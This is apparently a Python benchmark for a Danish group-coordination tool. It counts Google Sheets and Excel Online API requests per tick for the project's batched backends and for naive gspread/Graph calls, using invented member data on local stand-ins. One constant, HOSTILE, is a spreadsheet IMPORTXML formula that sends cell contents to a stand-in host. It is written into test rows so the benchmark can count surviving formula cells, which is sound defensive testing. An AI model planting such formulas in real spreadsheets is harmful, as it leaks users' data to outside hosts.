"""``python -m bench sheets [--ticks N] [--sizes 10,100,1000]``: workbook requests per tick.

On the local Sheets stand-in (tests/sheets_standin.py), for invented groups of 10, 100 and 1,000
members, counts HTTP requests per idle tick (read, nothing to write) and per write tick (read,
then 25 answers to Svar + 25 Log rows + 3 status cells in Opgaver) for GoogleBackend, and for the
same work done the naive gspread way (``worksheet(title).get_all_records()`` per tab, then
``append_row`` per row and ``update_cell`` per cell) in the same run. Google's default quota is
60 read and 60 write requests per minute per user, so requests per tick is the figure that
matters; the milliseconds are loopback-only and only comparable within one run. Also times the
``tovholder check`` work (read + parse + check) on a 1,000-member .xlsx.

The same for Excel Online (ExcelBackend on the local Graph stand-in, tests/graph_standin.py):
``excel_requests_per_idle_tick`` and ``excel_requests_per_write_tick`` (HTTP requests: a
``$batch`` counts as one), beside the naive way through the same API (one ``usedRange`` GET per
tab, one PATCH per appended row and per cell, no session, values sent as they are).
"""

from __future__ import annotations

import argparse
import datetime as dt
import random
import tempfile
import time
from pathlib import Path
from typing import Any

import gspread

from bench import report
from tests.graph_standin import GraphStandin
from tests.sheets_standin import SheetsStandin
from tovholder.sheets.batch import Batch, NewTab
from tovholder.sheets.checks import check
from tovholder.sheets.excel import ExcelBackend
from tovholder.sheets.google import GoogleBackend
from tovholder.sheets.parse import parse_snapshot
from tovholder.sheets.starter import new_tabs
from tovholder.sheets.xlsx import XlsxBackend

FIRST = ["Ida", "Søren", "Mette", "Jonas", "Freja", "Rasmus", "Line", "Anders", "Hanne", "Peter",
         "Karen", "Mads", "Sofie", "Emil", "Astrid", "Niels", "Birgitte", "Kasper", "Louise", "Ole"]
LAST = ["Engholm", "Bækgaard", "Lindholt", "Krogsgaard", "Vestergaard", "Holmgaard", "Østerby",
        "Kjærsgaard", "Bjerregaard", "Ravnholt", "Skovlund", "Damgaard", "Møllerup", "Aagaard"]
TOWNS = ["Vejle", "Aarhus", "Fredericia", "Esbjerg", "Aalborg", "Odense", "Roskilde", "Horsens",
         "Kolding", "Silkeborg", "Herning", "Viborg", "Næstved", "Holbæk"]
QUESTIONS = [("q1", "Hvilke fagområder arbejder du med?", "flere", "Vand; Natur; Klima; Affald"),
             ("q2", "Hvor mange års erfaring har du?", "tal", ""),
             ("q3", "Vil du være tovholder på en høring?", "én", "Ja; Nej; Måske"),
             ("q4", "Hvad skal gruppen tage op i år?", "tekst", ""),
             ("q5", "Foretrukken mødeform", "én", "Fysisk; Online; Hybrid")]
HOSTILE = '=IMPORTXML("https://x.example.org/?"&A1)'
START = dt.date(2025, 1, 6)


def group_rows(n: int, rng: random.Random) -> dict[str, list[dict[str, str]]]:
    """An invented group of ``n`` members with proportionate actions, meetings, agenda, log."""
    def day(offset: int) -> str:
        return (START + dt.timedelta(days=offset)).isoformat()

    emails = []
    members = []
    for i in range(n):
        first, last = FIRST[i % len(FIRST)], LAST[(i // len(FIRST)) % len(LAST)]
        email = f"{first.lower()}.{last.lower()}{i}@example.org".replace("ø", "oe") \
            .replace("æ", "ae").replace("å", "aa")
        emails.append(email)
        members.append({"name": f"{first} {last}", "email": email,
                        "organisation": f"{TOWNS[i % len(TOWNS)]} Kommune",
                        "status": rng.choices(["aktiv", "afventer", "udtrådt"], [90, 5, 5])[0],
                        "joined": day(-rng.randrange(1500)), "phone": f"0045{20000000 + i}",
                        "notes": "" if i % 7 else "Kontakt via sekretariatet"})
    meetings = [{"date": day(28 * k), "start": "13:00", "end": "15:30",
                 "place": "Rådhuset, mødelokale 2" if k % 2 else "Teams",
                 "kind": "fysisk" if k % 2 else "online",
                 "status": "afholdt" if k < 6 else "planlagt"}
                for k in range(12 + n // 100)]
    agenda = [{"meeting": m["date"], "no": str(j + 1), "title": f"Punkt {j + 1}: status og input",
               "responsible": rng.choice(emails), "status": "behandlet" if m["status"] ==
               "afholdt" else "planlagt"} for m in meetings for j in range(5)]
    actions = [{"id": str(k + 1), "meeting": meetings[k % 6]["date"], "item": str(k % 5 + 1),
                "description": f"Opgave {k + 1}: saml erfaringer og skriv udkast",
                "owners": rng.choice(emails), "due": day(28 * (k % 6) + 21),
                "status": rng.choice(["åben", "åben", "færdig"])} for k in range(10 + n // 10)]
    roles = [{"role": r, "holder": rng.choice(emails), "term_start": day(-300),
              "chosen": "frivillig"} for r in ["Formand", "Næstformand", "Sekretær",
                                               *(f"Tovholder {t}" for t in TOWNS[:3 + n // 100])]]
    groups = [{"name": f"Netværk {t}", "members": ", ".join(rng.sample(emails, min(5, n)))}
              for t in TOWNS[:3 + n // 100]]
    consultations = [{"title": f"Høring om bekendtgørelse nr. {k}", "authority": "Miljøstyrelsen",
                      "deadline": day(30 * k), "link": f"https://hoeringsportalen.example.org/{k}",
                      "coordinator": rng.choice(emails), "status": "åben"}
                     for k in range(5 + n // 100)]
    form = [{"id": q, "question": text, "type": kind, "options": options}
            for q, text, kind, options in QUESTIONS]
    answers = [{"member": e, "round": "2025-1", "received": f"{day(rng.randrange(30))} 10:1{i % 10}",
                "message_id": f"<svar-{i}@example.org>", "raw": "Vand, Natur"}
               for i, e in enumerate(emails) if i % 3]
    log = [{"time": f"{day(i % 60)} 08:00", "kind": "form", "key": f"2025-1/{e}", "recipient": e,
            "message_id": f"<form-{i}@example.org>", "state": "sendt"}
           for i, e in enumerate(emails * 2)]
    return {"members": members, "roles": roles, "actions": actions, "meetings": meetings,
            "agenda": agenda, "groups": groups, "consultations": consultations, "form": form,
            "answers": answers, "log": log}


def workbook_tabs(n: int, seed: int = 7) -> list[NewTab]:
    """The schema's tabs filled for ``n`` members; Svar gets one column per form question."""
    tabs = new_tabs("da", group_rows(n, random.Random(seed)))
    out = []
    for tab in tabs:
        if tab.title == "Svar":
            extra = tuple(q for q, *_ in QUESTIONS)
            body = tuple((*r, "Vand; Natur", "12", "Ja", "Mere om klimatilpasning", "Online")
                         for r in tab.rows[1:])
            tab = NewTab(tab.title, ((*tab.rows[0], *extra), *body), tab.dropdowns)
        out.append(tab)
    return out


def write_work(snapshot: dict[str, list[list[Any]]], tick: int) -> Batch:
    """25 answers, 25 log rows, 3 action statuses (alternating so every write changes a cell)."""
    batch = Batch()
    stamp = f"2025-03-01 10:{tick % 60:02d}"
    batch.append("Svar", *[(f"ny{tick}.{i}@example.org", "2025-1", stamp, f"<r{tick}.{i}@x>",
                            HOSTILE if i == 0 else "Vand", "Vand", "3", "Ja", "-2+3", "Online")
                           for i in range(25)])
    batch.append("Log", *[(stamp, "answer", f"2025-1/ny{tick}.{i}", "", f"<r{tick}.{i}@x>",
                           "modtaget", "") for i in range(25)])
    header, *rows = snapshot["Opgaver"]
    status_col = header.index("Status") + 1
    for k in range(3):
        batch.set_cell("Opgaver", k + 2, status_col, "færdig" if tick % 2 else "åben",
                       key_col=1, key_value=str(rows[k][0]))
    return batch


def measure(n: int, ticks: int, standin: SheetsStandin) -> dict[str, Any]:
    grids = {t.title: [list(r) for r in t.rows] for t in workbook_tabs(n)}
    ours, naive = f"bench-{n}-ours", f"bench-{n}-naive"
    for sid in (ours, naive):
        standin.create_spreadsheet(sid, grids)
    backend = GoogleBackend(ours, session=standin.session())
    backend.read()  # the first tick fetches metadata too; not counted

    def counted(fn: Any) -> tuple[float, float]:
        standin.reset_counts()
        start = time.perf_counter()
        for tick in range(ticks):
            fn(tick)
        elapsed = time.perf_counter() - start
        return len(standin.requests) / ticks, 1000 * elapsed / ticks

    idle, idle_ms = counted(lambda tick: backend.read())
    write, write_ms = counted(lambda tick: backend.apply(write_work(backend.read(), tick)))

    sheet = gspread.Client(None, session=standin.session()).open_by_key(naive)  # type: ignore
    titles = list(grids)

    def naive_read() -> dict[str, Any]:
        return {t: (ws := sheet.worksheet(t), ws.get_all_records()) for t in titles}

    def naive_write(tick: int) -> None:
        tabs = naive_read()
        ws_actions, records = tabs["Opgaver"]  # records: dicts keyed by the header row
        snapshot = {"Opgaver": [list(records[0]), *[list(r.values()) for r in records]]}
        batch = write_work(snapshot, tick)
        for append in batch.appends:
            ws = tabs[append.tab][0]
            for row in append.rows:
                ws.append_row(list(row))
        for c in batch.cells:
            ws_actions.update_cell(c.row, c.col, c.value)

    naive_idle, naive_idle_ms = counted(lambda tick: naive_read())
    naive_write_n, naive_write_ms = counted(naive_write)
    return {"members": n, "ticks": ticks,
            "rows_at_start": sum(len(g) for g in grids.values()),
            "requests_per_idle_tick": idle, "requests_per_write_tick": write,
            "naive_requests_per_idle_tick": naive_idle,
            "naive_requests_per_write_tick": naive_write_n,
            "loopback_ms_per_idle_tick": round(idle_ms, 2),
            "loopback_ms_per_write_tick": round(write_ms, 2),
            "naive_loopback_ms_per_idle_tick": round(naive_idle_ms, 2),
            "naive_loopback_ms_per_write_tick": round(naive_write_ms, 2),
            "formula_cells_after_ours": len(standin.formula_cells(ours)),
            "formula_cells_after_naive": len(standin.formula_cells(naive))}


def measure_excel(n: int, ticks: int, graph: GraphStandin) -> dict[str, Any]:
    """Requests per idle and write tick for ExcelBackend and for the naive way, on the Graph
    stand-in (a ``$batch`` is one HTTP request, as Graph's throttling counts it)."""
    grids = {t.title: [list(r) for r in t.rows] for t in workbook_tabs(n)}
    drive = "b!bench"
    for item in (f"{n}-ours", f"{n}-naive"):
        graph.create_workbook(drive, item, grids)
    backend = ExcelBackend(drive, f"{n}-ours", token=lambda: "bench", session=graph.session())
    backend.read()  # the first read lists the worksheets too; not counted
    for tick in (-2, -1):  # nor the first writes, which turn Svar and Log into Excel tables
        backend.apply(write_work(backend.read(), tick))

    def counted(fn: Any) -> float:
        graph.reset_counts()
        for tick in range(ticks):
            fn(tick)
        return len(graph.requests) / ticks

    idle = counted(lambda tick: backend.read())
    write = counted(lambda tick: backend.apply(write_work(backend.read(), tick)))
    http = graph.session()
    book = f"https://graph.microsoft.com/v1.0/drives/{drive}/items/{n}-naive/workbook"
    auth = {"Authorization": "Bearer bench"}

    def naive_read() -> dict[str, Any]:
        out = {}
        for title in grids:
            used = http.get(f"{book}/worksheets/{title}/usedRange(valuesOnly=true)",
                            headers=auth).json()
            out[title] = (used["address"], used["values"])
        return out

    def naive_write(tick: int) -> None:
        tabs = naive_read()
        batch = write_work({"Opgaver": tabs["Opgaver"][1]}, tick)
        for append in batch.appends:
            last = int(tabs[append.tab][0].split(":")[-1].lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
            for row in append.rows:
                last += 1
                end = chr(64 + len(row))
                http.patch(f"{book}/worksheets/{append.tab}/range(address='A{last}:{end}{last}')",
                           json={"values": [list(row)]}, headers=auth)
        for c in batch.cells:
            address = f"{chr(64 + c.col)}{c.row}"
            http.patch(f"{book}/worksheets/Opgaver/range(address='{address}')",
                       json={"values": [[c.value]]}, headers=auth)

    naive_idle = counted(lambda tick: naive_read())
    naive_write_n = counted(naive_write)
    return {"excel_requests_per_idle_tick": idle, "excel_requests_per_write_tick": write,
            "excel_naive_requests_per_idle_tick": naive_idle,
            "excel_naive_requests_per_write_tick": naive_write_n,
            "excel_formula_cells_after_ours": len(graph.formula_cells(drive, f"{n}-ours")),
            "excel_formula_cells_after_naive": len(graph.formula_cells(drive, f"{n}-naive"))}


def check_seconds_xlsx(n: int = 1000, repeats: int = 3) -> float:
    """``tovholder check`` without the printing: read + parse + check a 1,000-member .xlsx."""
    with tempfile.TemporaryDirectory() as folder:
        backend = XlsxBackend(Path(folder) / "gruppe.xlsx")
        backend.create_tabs(workbook_tabs(n))
        best = float("inf")
        for _ in range(repeats):
            start = time.perf_counter()
            check(parse_snapshot(backend.read()), START + dt.timedelta(days=60))
            best = min(best, time.perf_counter() - start)
    return round(best, 3)


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench sheets")
    parser.add_argument("--ticks", type=int, default=100)
    parser.add_argument("--sizes", default="10,100,1000")
    args = parser.parse_args(argv)
    sizes = [int(s) for s in args.sizes.split(",")]
    with SheetsStandin() as standin, GraphStandin() as graph:
        per_size = {f"{n}_members": measure(n, args.ticks, standin)
                    | measure_excel(n, args.ticks, graph) for n in sizes}
    big = per_size[f"{max(sizes)}_members"]
    headline = {k: big[k] for k in ("requests_per_idle_tick", "requests_per_write_tick",
                                    "naive_requests_per_idle_tick",
                                    "naive_requests_per_write_tick",
                                    "excel_requests_per_idle_tick",
                                    "excel_requests_per_write_tick",
                                    "excel_naive_requests_per_idle_tick",
                                    "excel_naive_requests_per_write_tick")}
    headline["check_seconds_1000_members_xlsx"] = check_seconds_xlsx()
    report("sheets", headline, {"largest_group": max(sizes), **per_size})
    return 0
